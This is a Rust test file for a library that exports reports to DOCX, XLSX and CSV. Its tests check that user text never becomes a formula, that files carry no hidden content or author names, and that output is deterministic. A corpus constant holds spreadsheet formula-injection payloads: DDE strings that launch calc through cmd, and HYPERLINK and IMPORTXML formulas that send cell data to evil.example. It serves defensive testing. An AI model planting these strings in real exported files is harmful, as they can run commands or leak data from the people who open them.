//! Whatever the text: the file is well-formed, hides nothing, runs nothing, names nobody, and is the same every time.

use proptest::prelude::*;
use taizhang::documents::list_json::{Column as ListColumn, ColumnRole, ListDocument};
use taizhang::documents::read::read_here;
use taizhang::documents::write::model::{Align, Book, Column, Row, Sheet, Slot};
use taizhang::documents::write::{self, Form, MAX_CELL, Profile, WriteError};
use taizhang::domain::lang::Lang;

use super::package::{part, parts};
use super::views::{missing_view, report_view, summary_view};

const FILES: [Form; 3] = [Form::Docx, Form::Xlsx, Form::Csv];

/// A table of one text per row.
fn table(texts: &[String]) -> Book {
    let rows = texts.iter().map(|t| Row::cells(vec![Slot::text("1"), Slot::text(t.clone())])).collect();
    let columns = vec![Column::new("序号", Align::Center), Column::new("内容", Align::Left)];
    Sheet { name: "表".into(), title: Some("题目".into()), columns, rows, ..Sheet::default() }.into()
}

/// What stands in the second column after a journey.
fn back(texts: &[String], form: Form) -> Vec<String> {
    let bytes = write::book(&table(texts), form).unwrap();
    let pages = read_here(&bytes, &format!("t.{}", form.extension())).unwrap();
    let table = &pages.tables[0];
    let first = if form == Form::Docx { 1 } else { 2 };
    (first..table.rows)
        .map(|row| table.cells.iter().find(|c| (c.row, c.column) == (row, 1)).map_or(String::new(), |c| c.text.clone()))
        .collect()
}

/// What a reader of files keeps of a text: no characters that XML cannot hold, no blanks at the ends.
fn kept(text: &str) -> String {
    let text = text.replace("\r\n", "\n").replace('\r', "\n");
    let legal =
        |c: &char| !matches!(c, '\u{0}'..='\u{8}' | '\u{B}' | '\u{C}' | '\u{E}'..='\u{1F}' | '\u{FFFE}' | '\u{FFFF}');
    text.chars().filter(legal).collect::<String>().trim().to_owned()
}

/// Texts that spreadsheets have run, in both widths.
const CORPUS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/\",\"点我\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    "\"=1+1\"",
    "=\"\"\"",
    ";=1+1",
    ",=1+1",
    "=1+1\";=2\"",
    "%0A=1+1",
    "-",
    "—",
    "'",
    "'引号开头",
    "\t",
    " '=1+1",
    "_x003D_1+1",
    "{=1+1}",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
];

#[test]
fn no_text_is_ever_a_formula() {
    let texts: Vec<String> = CORPUS.iter().map(|t| (*t).to_owned()).collect();
    let book = table(&texts);
    for (name, xml) in parts(&write::xlsx(&book).unwrap()) {
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "{name}");
        assert!(!xml.contains("ddeLink") && !xml.contains("externalLink") && !xml.contains("hyperlink"), "{name}");
    }
    for (name, xml) in parts(&write::docx(&book).unwrap()) {
        let fields =
            xml.matches("fldChar").count() + xml.matches("instrText").count() + xml.matches("hyperlink").count();
        assert!(fields == 0 || name == "word/footer1.xml", "{name}");
    }
    // A spreadsheet runs a field that begins with one of these signs, whatever blanks stand before it.
    let csv = write::csv(&book).unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(&csv[3..]);
    for field in reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()) {
        let first = field.trim_start().chars().next();
        assert!(!first.is_some_and(|c| "=+-@＝＋－＠".contains(c)), "{field:?}");
        assert!(!field.starts_with(['\t', '\r', '\n']), "{field:?}");
    }
    for form in FILES {
        let expected: Vec<String> = texts.iter().map(|t| kept(t)).collect();
        assert_eq!(back(&texts, form), expected, "{form:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_text_comes_back(texts in prop::collection::vec("\\PC{0,40}|[=+@'\"_x0-9A-F,;|\\t\\r\\n <>&\\u{0}-\\u{1f}\\u{FFFE}年月-]{0,20}", 1..6)) {
        for form in FILES {
            let mut expected: Vec<String> = texts.iter().map(|t| kept(t)).collect();
            let mut read = back(&texts, form);
            // Line separators of Unicode are line ends in a document.
            if form == Form::Docx {
                let plain = |t: &String| t.replace(['\u{2028}', '\u{2029}'], "\n").lines().map(str::trim_end).collect::<Vec<_>>().join("\n").trim().to_owned();
                expected = expected.iter().map(plain).collect();
                read = read.iter().map(plain).collect();
            }
            prop_assert_eq!(&read, &expected, "{:?}", form);
        }
    }

    #[test]
    fn any_list_is_written_without_a_panic(
        title in prop::option::of("\\PC{0,20}"),
        issuer in prop::option::of("\\PC{1,20}"),
        numbers in prop::collection::vec(prop::option::of("[0-9一二（）.-]{1,6}"), 0..6),
        texts in prop::collection::vec(prop::option::of("\\PC{1,30}"), 6),
        depth in prop::collection::vec(0_usize..3, 6),
        columns in prop::collection::vec(0_usize..10, 0..7),
    ) {
        let mut list = ListDocument::empty(2026);
        (list.title, list.issuer) = (title, issuer);
        let column = |n: &usize| ListColumn { header: Some(format!("第{n}列")), role: ColumnRole::ALL[*n] };
        list.columns = columns.iter().map(column).collect();
        let base = serde_json::json!({"format": "taizhang-list/1", "year": 2026, "sections": [{"path": ["一"], "title": "甲"}, {"path": ["一", "（一）"], "title": "乙"}],
            "tasks": [{"number": "1", "requirement": "公开。", "deadline": {"kind": "NONE"}, "inherited": true}]});
        let base = taizhang::documents::list_json::read(base.to_string()).unwrap();
        list.sections = base.sections.clone();
        for (i, number) in numbers.iter().enumerate() {
            let mut task = base.tasks[0].clone();
            task.number = number.clone();
            task.requirement = texts[i].clone().or(task.requirement);
            task.unit_text = texts[(i + 1) % 6].clone();
            task.section_path = [vec![], vec!["一".to_owned()], vec!["一".to_owned(), "（一）".to_owned()]][depth[i]].clone();
            list.tasks.push(task);
        }
        for profile in [Profile::Own, Profile::Standard] {
            for form in FILES {
                let bytes = write::list(&list, profile, form).unwrap();
                let pages = read_here(&bytes, &format!("l.{}", form.extension())).unwrap();
                let cells: String = pages.tables.iter().flat_map(|t| &t.cells).map(|c| c.text.clone()).collect();
                // Nothing that was to be written is missing.
                for text in list.tasks.iter().filter_map(|t| t.requirement.as_deref()) {
                    let plain = |t: &str| t.chars().filter(|c| !c.is_whitespace()).collect::<String>();
                    prop_assert!(plain(&cells).contains(&plain(&kept(text))), "{:?} {}", form, text);
                }
            }
        }
    }
}

fn books() -> Vec<(&'static str, Book)> {
    vec![
        ("report", write::report_sheet(&report_view(), false)),
        ("form", write::report_sheet(&report_view(), true)),
        ("summary", write::summary(&summary_view())),
        ("missing", write::missing(&missing_view())),
    ]
}

#[test]
fn nothing_is_hidden_and_nobody_is_named() {
    for (name, book) in books() {
        for (part, xml) in parts(&write::xlsx(&book).unwrap()) {
            for word in ["hidden=\"1\"", "veryHidden", "state=\"hidden\"", "vbaProject", "externalLink", "<comment"] {
                assert!(!xml.contains(word), "{name} {part}: {word}");
            }
            assert!(!xml.contains("width=\"0\"") && !xml.contains(" ht=\"0\""), "{name} {part}");
        }
        let core = part(&write::xlsx(&book).unwrap(), "docProps/core.xml");
        assert!(
            core.contains("<dc:creator></dc:creator>") || core.contains("<dc:creator/>") || !core.contains("creator"),
            "{core}"
        );
        assert!(
            !core.contains("lastModifiedBy>") || core.contains("<cp:lastModifiedBy></cp:lastModifiedBy>"),
            "{core}"
        );
        for (part, xml) in parts(&write::docx(&book).unwrap()) {
            for word in
                ["w:vanish", "w:webHidden", "w:del ", "w:ins ", "w:comment", "rsid", "creator", "lastModifiedBy"]
            {
                assert!(!xml.contains(word), "{name} {part}: {word}");
            }
        }
    }
}

#[test]
fn equal_books_are_equal_bytes() {
    for (name, book) in books() {
        for form in FILES {
            let first = write::book(&book, form).unwrap();
            std::thread::sleep(std::time::Duration::from_millis(if form == Form::Xlsx { 1_100 } else { 0 }));
            assert_eq!(first, write::book(&book, form).unwrap(), "{name} {form:?}");
        }
    }
}

#[test]
fn a_document_is_laid_out_as_an_office_prints_it() {
    let bytes = write::docx(&write::report_sheet(&report_view(), false)).unwrap();
    let document = part(&bytes, "word/document.xml");
    let rows = document.matches("<w:tr>").count();
    assert_eq!(document.matches("<w:cantSplit/>").count(), rows, "no row is split");
    assert_eq!(document.matches("<w:tblHeader/>").count(), 1, "one row of headings, repeated");
    assert!(document.contains("<w:pgSz w:w=\"16838\" w:h=\"11906\" w:orient=\"landscape\"/>"));
    assert!(document.contains("<w:gridSpan w:val=\"9\"/>"), "sections lie over all columns");
    let styles = part(&bytes, "word/styles.xml");
    for font in ["方正小标宋简体", "仿宋_GB2312", "黑体", "楷体_GB2312"] {
        assert!(styles.contains(&format!("w:eastAsia=\"{font}\"")), "{font}");
        assert!(part(&bytes, "word/fontTable.xml").contains(&format!("w:name=\"{font}\"><w:altName")), "{font}");
    }
    let section = styles.split("w:styleId=\"Dalei\"").nth(1).unwrap().split("</w:style>").next().unwrap();
    assert!(section.contains("<w:keepNext/>") && section.contains("<w:b/>"), "{section}");
    assert!(part(&bytes, "word/footer1.xml").contains(" PAGE "));
    let grid: u32 =
        document.split("<w:gridCol w:w=\"").skip(1).map(|c| c.split('"').next().unwrap().parse::<u32>().unwrap()).sum();
    assert_eq!(grid, 16_838 - 2 * 1_134, "the table is as wide as the text");
}

#[test]
fn a_workbook_is_ready_to_print() {
    let bytes = write::xlsx(&write::report_sheet(&report_view(), true)).unwrap();
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    for words in
        ["orientation=\"landscape\"", "paperSize=\"9\"", "fitToHeight=\"0\"", "state=\"frozen\"", "fitToPage=\"1\""]
    {
        assert!(sheet.contains(words), "{words}");
    }
    assert!(part(&bytes, "xl/workbook.xml").contains("_xlnm.Print_Titles"));
    assert!(sheet.contains("<dataValidation type=\"list\""), "words to choose from");
    assert!(sheet.contains("<v>1</v>"));
}

#[test]
fn what_does_not_fit_into_a_cell_is_an_error_that_says_where() {
    let long = "长".repeat(MAX_CELL);
    assert!(write::xlsx(&table(std::slice::from_ref(&long))).is_ok());
    let fault = write::xlsx(&table(&[format!("{long}长")])).unwrap_err();
    assert_eq!(fault, WriteError::CellTooLong { place: "表!B3".into(), max: MAX_CELL });
    assert!(fault.text(Lang::Zh).contains("32767") && fault.text(Lang::En).contains("B3"));
    // Excel counts in units of UTF-16.
    assert!(write::xlsx(&table(&["𠮷".repeat(MAX_CELL / 2 + 1)])).is_err());
    let mut merged = table(&[]);
    merged.sheets[0].title = Some(format!("{long}长"));
    assert_eq!(write::xlsx(&merged).unwrap_err().code(), "CELL_TOO_LONG");
    assert_eq!(write::book(&merged, Form::Json).unwrap_err(), WriteError::NoSuchForm);
    for form in [Form::Docx, Form::Csv] {
        assert!(write::book(&merged, form).is_ok(), "{form:?}");
    }
}

#[test]
fn names_of_tabs_are_what_excel_takes() {
    let sheet = |name: &str| Sheet { name: name.into(), columns: vec![Column::default()], ..Sheet::default() };
    let long = "很长的名称".repeat(20);
    let names = ["a/b:c*d?[e]", "", "同名", "同名", "'引号'", "\u{1F600}", long.as_str(), "History\u{0}"];
    let book = Book { sheets: names.map(sheet).to_vec(), made_on: None };
    let workbook = part(&write::xlsx(&book).unwrap(), "xl/workbook.xml");
    for name in ["name=\"abcde\"", "name=\"表2\"", "name=\"同名\"", "name=\"同名-4\"", "name=\"引号\"", "name=\"表6\""]
    {
        assert!(workbook.contains(name), "{name}: {workbook}");
    }
}

#[test]
fn a_sheet_without_a_table_is_still_a_file() {
    let sheet = Sheet { title: Some("只有标题".into()), ..Sheet::default() };
    for form in FILES {
        let bytes = write::book(&Book::from(sheet.clone()), form).unwrap();
        let pages = read_here(&bytes, &format!("t.{}", form.extension())).unwrap();
        let cells = pages.tables.iter().flat_map(|t| t.cells.iter().map(|c| c.text.clone()));
        assert_eq!(cells.chain(pages.tail).collect::<Vec<_>>(), ["只有标题"], "{form:?}");
        write::book(&Book::default(), form).unwrap();
    }
}
